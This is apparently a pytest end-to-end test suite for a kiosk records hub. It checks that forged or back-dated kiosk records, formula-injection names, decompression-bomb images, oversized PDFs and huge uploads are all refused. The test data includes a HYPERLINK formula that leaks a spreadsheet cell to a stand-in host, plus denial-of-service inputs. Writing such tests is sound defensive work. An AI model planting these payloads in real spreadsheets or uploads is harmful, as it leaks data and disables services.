"""Attacks on the real ``kiosk-hub serve`` (SQLite, its own data folder) and its answers.

Records judged against what the hub knows: a real kiosk enrolled for one commune signs
what a stolen or tampered kiosk would (records for another commune, for a commune that
does not exist, dated ahead or before the movement, and, once revoked, back-dated ones).
Each is refused with its reason on every channel (network push from the kiosk's outbox,
``kiosk-hub import`` of a USB bundle, the scan page), reported back (the kiosk's outbox,
the CLI, the page) and never counted. Learner text never becomes a live formula in the
exports. Hostile uploads on the scan page are refused file by file, off the event loop.
"""

from __future__ import annotations

import contextlib
import csv
import io
import json
import socket
import struct
import subprocess
import sys
import threading
import time
import zlib
from collections.abc import Iterator
from datetime import date, timedelta
from pathlib import Path

import httpx
import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from kiosk.clock import local_date, utcnow
from kiosk.db.models import OutboxRecord
from kiosk.slips import cli as slip_cli
from kiosk.slips.render import render_slips
from kiosk.slips.view import Layout, slip_view
from kiosk.sync.client import HubClient
from kiosk.sync.push import PushReport, push_once
from kiosk_records.bundle import seal_bundle
from kiosk_records.sealing import seal_citizen_id
from tests.helpers.real_kiosk import (
    HUB_MAIN,
    HubProcess,
    RealKiosk,
    add_province_user,
    hub_count,
    real_kiosk,
    upload_path,
    web_session,
)
from tests.helpers.web_helpers import post_form

# A real ``kiosk-hub serve`` process.
pytestmark = pytest.mark.e2e

HERE, ELSEWHERE, NOWHERE = "03127", "03158", "99999"


@pytest.fixture(scope="module")
def hub(tmp_path_factory: pytest.TempPathFactory) -> Iterator[HubProcess]:
    process = HubProcess(tmp_path_factory.mktemp("hub"))
    add_province_user(process)
    process.start()
    yield process
    process.stop()


@pytest.fixture
def kiosk(hub: HubProcess, tmp_path: Path) -> Iterator[RealKiosk]:
    made = real_kiosk(hub, tmp_path / "kiosk", HERE)
    yield made
    made.close()


def _push(hub: HubProcess, kiosk: RealKiosk) -> PushReport:
    """Push the kiosk's outbox as its sync worker does: each request signed with its key."""
    return push_once(kiosk.services.database, HubClient(hub.url), utcnow(), key=kiosk.key)


def _bundle(kiosk: RealKiosk, texts: list[str], tmp_path: Path) -> Path:
    """A USB bundle sealed to the hub's key, as the kiosk learnt it at enrolment."""
    hub_key = kiosk.hub_public_key()
    path = tmp_path / "stick.hsb"
    path.write_bytes(seal_bundle(texts, hub_key, str(kiosk.id), "2026-12-01T09:00Z"))
    return path


def _import(hub: HubProcess, bundle: Path) -> tuple[str, str]:
    done = subprocess.run(
        [sys.executable, "-c", HUB_MAIN, "import", str(bundle)],
        env=hub.env, capture_output=True, text=True, timeout=60, check=True,
    )  # fmt: skip
    return done.stdout, done.stderr


def test_records_for_another_commune_or_impossible_dates_are_refused_everywhere(
    hub: HubProcess, kiosk: RealKiosk, tmp_path: Path
) -> None:
    today = local_date(utcnow())
    good = kiosk.record(today)
    forged = [
        kiosk.record(today, commune=ELSEWHERE),
        kiosk.record(today, commune=NOWHERE),
        kiosk.record(today + timedelta(days=700)),
        kiosk.record(date(2024, 6, 1)),
    ]
    completions = hub_count(hub, "completion")
    kiosk.into_outbox([good, *forged])
    report = _push(hub, kiosk)
    assert (report.acked, report.refused) == (1, 4)
    with kiosk.services.database.transaction() as session:
        said = dict(session.execute(select(OutboxRecord.serial, OutboxRecord.last_error)).all())
    assert [said[r.serial] for r in forged] == [
        "commune_mismatch", "commune_mismatch", "date_ahead", "date_too_early",
    ]  # fmt: skip
    assert hub_count(hub, "completion") == completions + 1

    others = [kiosk.record(today, commune=ELSEWHERE), kiosk.record(date(2199, 1, 1))]
    out, err = _import(hub, _bundle(kiosk, [kiosk.text(r) for r in others], tmp_path))
    assert "accepted=0 duplicates=0 refused=2" in out
    assert "refused (commune_mismatch: commune 03158, kiosk enrolled for 03127)" in err
    assert "refused (date_ahead: completed on 2199-01-01" in err

    with contextlib.closing(web_session(hub)) as web:
        texts = [kiosk.text(kiosk.record(date(2025, 1, 2))), kiosk.text(forged[0])]
        page = post_form(web, "/scan", {"text": "\n".join(texts)})
    assert page.status_code == 200
    assert "trước khi phong trào bắt đầu" in page.text
    assert "xã khác với xã máy kiosk đã đăng ký" in page.text
    assert hub_count(hub, "completion") == completions + 1
    assert hub_count(hub, "learner") == hub_count(hub, "record")  # one learner per record


def test_a_revoked_key_cannot_back_date_on_any_channel(
    hub: HubProcess, kiosk: RealKiosk, tmp_path: Path
) -> None:
    today = local_date(utcnow())
    kiosk.into_outbox([kiosk.record(today - timedelta(days=3))])
    assert _push(hub, kiosk).acked == 1
    hub.cli("revoke", str(kiosk.id), "--from", today.isoformat())
    completions = hub_count(hub, "completion")

    # the thief's records: completed "last week", each with a serial the hub never had
    kiosk.into_outbox([kiosk.record(today - timedelta(days=7))])
    refused = _push(hub, kiosk)
    assert refused.acked == 0 and "revoked" in (refused.error or "")
    bundle = _bundle(kiosk, [kiosk.text(kiosk.record(today - timedelta(days=8)))], tmp_path)
    out, err = _import(hub, bundle)
    assert (
        "accepted=0 duplicates=0 refused=1" in out and "refused (revoked: key revoked from" in err
    )
    slip = kiosk.record(today - timedelta(days=9))
    with contextlib.closing(web_session(hub)) as web:
        page = post_form(web, "/scan", {"text": kiosk.text(slip)})
        trust = web.get("/api/v1/trust-list").json()
    assert "Khóa của máy kiosk đã bị thu hồi" in page.text
    assert hub_count(hub, "completion") == completions

    # offline: the trust list says what the hub knew, and `kiosk slip verify` honours it
    (entry,) = [k for k in trust["keys"] if k["kiosk_id"] == str(kiosk.id)]
    assert entry["revoked_from"] == today.isoformat() and entry["last_serial"] == -1
    trust_file = tmp_path / "trust.json"
    trust_file.write_text(json.dumps(trust))
    verifier = tmp_path / "verifier"
    code = slip_cli.main(
        ["verify", kiosk.text(slip), "--trust", str(trust_file), "--json"], verifier
    )
    assert code == 1


def test_a_learner_name_never_becomes_a_formula_in_the_exports(
    hub: HubProcess, kiosk: RealKiosk
) -> None:
    trap = '=HYPERLINK("http://x.example/?"&E2,"Xem")'
    sealed = seal_citizen_id("011090001234", kiosk.hub_public_key())
    names = [trap, "+84 912", "-1+1", "@SUM(A1)"]  # a name has no tab or CR (record format)
    kiosk.into_outbox(
        [kiosk.record(local_date(utcnow()), name=n, sealed_citizen_id=sealed) for n in names]
    )
    assert _push(hub, kiosk).acked == len(names)
    with contextlib.closing(web_session(hub)) as web:
        as_csv = web.get("/export/consent.csv")
        as_xlsx = web.get("/export/consent.xlsx")
    assert as_csv.status_code == as_xlsx.status_code == 200
    rows = list(csv.reader(io.StringIO(as_csv.content.decode("utf-8-sig"))))
    name_at = rows[0].index("name")
    in_csv = {row[name_at] for row in rows[1:]}
    assert {"'" + n for n in names} <= in_csv
    sheet = load_workbook(io.BytesIO(as_xlsx.content)).active
    cells = [row[name_at] for row in sheet.iter_rows(min_row=2)]
    trapped = [c for c in cells if c.value in names]
    assert len(trapped) == len(names)
    assert all(c.data_type == "s" and c.quotePrefix for c in trapped)


def _one_huge_page_pdf() -> bytes:
    """A valid one-page PDF of about 1 KB whose page is 200 × 200 inches."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 14400 14400] /Contents 4 0 R >>",
        b"<< /Length 0 >>\nstream\n\nendstream",
    ]
    out, offsets = bytearray(b"%PDF-1.4\n"), []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % at for at in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1, xref,
    )  # fmt: skip
    return bytes(out)


def _png_claiming(width: int, height: int) -> bytes:
    """A tiny PNG whose header claims ``width`` × ``height`` grey pixels."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b""))
        + chunk(b"IEND", b"")
    )


def _slip_pdf(kiosk: RealKiosk) -> bytes:
    record = kiosk.record(local_date(utcnow()))
    view = slip_view(record, kiosk.text(record), lesson_titles={101: "Làm quen"},
                     learning_point="Him Lam", commune="Phường Điện Biên Phủ")  # fmt: skip
    return render_slips([view], Layout.A6)


def test_hostile_uploads_are_refused_file_by_file_and_the_good_slip_still_counts(
    hub: HubProcess, kiosk: RealKiosk
) -> None:
    huge_page, bomb = _one_huge_page_pdf(), _png_claiming(20_000, 20_000)
    assert len(huge_page) < 1_300 and len(bomb) == 65
    completions = hub_count(hub, "completion")
    files = [
        ("files", ("trang-khong-lo.pdf", huge_page, "application/pdf")),
        ("files", ("phieu.pdf", _slip_pdf(kiosk), "application/pdf")),
        ("files", ("bom.png", bomb, "image/png")),
    ]
    with contextlib.closing(web_session(hub)) as web:
        page = web.post(upload_path(web), files=files)
    assert page.status_code == 200
    assert "trang-khong-lo.pdf: trang PDF quá khổ" in page.text
    assert "bom.png: ảnh quá lớn (quá 40 triệu điểm ảnh)" in page.text
    assert "Đã nhận phiếu" in page.text
    assert hub_count(hub, "completion") == completions + 1


def test_health_answers_within_a_second_while_an_upload_is_decoded(hub: HubProcess) -> None:
    from PIL import Image

    image = Image.new("L", (6300, 6300), 255)  # within the limits, and slow to search
    for x in range(0, 6300, 50):
        image.paste(0, (x, 0, x + 10, 6300))
    buffer = io.BytesIO()
    image.save(buffer, "PNG")
    files = [("files", (f"to-{n}.png", buffer.getvalue(), "image/png")) for n in range(3)]
    answers: list[httpx.Response] = []

    def upload() -> None:
        with contextlib.closing(web_session(hub)) as web:
            answers.append(web.post(upload_path(web), files=files, timeout=120))

    uploading = threading.Thread(target=upload)
    uploading.start()
    time.sleep(1.0)  # the files are on their way and being decoded
    waits: list[float] = []
    while uploading.is_alive() and len(waits) < 8:
        started = time.monotonic()
        assert httpx.get(hub.url + "/api/v1/health", timeout=30).status_code == 200
        waits.append(time.monotonic() - started)
        time.sleep(0.2)
    still_decoding = uploading.is_alive()
    uploading.join()
    assert waits and max(waits) < 1.0, f"health waited {max(waits):.2f} s"
    assert still_decoding and len(waits) >= 3, f"the upload ended too soon ({waits})"
    assert answers[0].status_code == 200
    assert answers[0].text.count("không tìm thấy mã QR của phiếu") == 3


def test_an_upload_too_big_or_of_too_many_files_is_answered_in_vietnamese(
    hub: HubProcess, kiosk: RealKiosk
) -> None:
    completions = hub_count(hub, "completion")
    slip = ("files", ("phieu.pdf", _slip_pdf(kiosk), "application/pdf"))
    many = [slip, *[("files", (f"trong-{n}.png", b"", "image/png")) for n in range(20)]]
    with contextlib.closing(web_session(hub)) as web:
        upload = upload_path(web)
        page = web.post(upload, files=many)
        assert page.status_code == 200 and "Đã nhận phiếu" in page.text
        assert "trong-19.png: quá 20 tệp một lần" in page.text
        assert "trong-0.png: không phải tệp PDF, PNG hay JPEG" in page.text
        too_many = [("files", (f"{n}.png", b"x", "image/png")) for n in range(101)]
        refused = web.post(upload, files=too_many)
        assert refused.status_code == 400 and "quá 100 tệp" in refused.text
        empty = web.post(
            upload, content=b"--x--\r\n",
            headers={"Content-Type": "multipart/form-data; boundary=x"},
        )  # fmt: skip
        assert empty.status_code == 200 and "Chưa chọn tệp nào" in empty.text
        cookie = "; ".join(f"{k}={v}" for k, v in web.cookies.items())
    answer = _declare_a_huge_upload(hub, upload, cookie)  # answered before a byte of it is sent
    assert answer.startswith("HTTP/1.1 413") and "tối đa 100 MB mỗi lần" in answer
    assert hub_count(hub, "completion") == completions + 1


def _declare_a_huge_upload(hub: HubProcess, upload: str, cookie: str) -> str:
    head = (
        f"POST {upload} HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n"
        f"Cookie: {cookie}\r\nContent-Type: multipart/form-data; boundary=x\r\n"
        "Content-Length: 2000000000\r\n\r\n"
    )
    answer = b""
    with socket.create_connection(("127.0.0.1", hub.port), timeout=10) as raw:
        raw.sendall(head.encode("ascii"))
        while b"</html>" not in answer and (part := raw.recv(65536)):
            answer += part
    return answer.decode("utf-8", "replace")
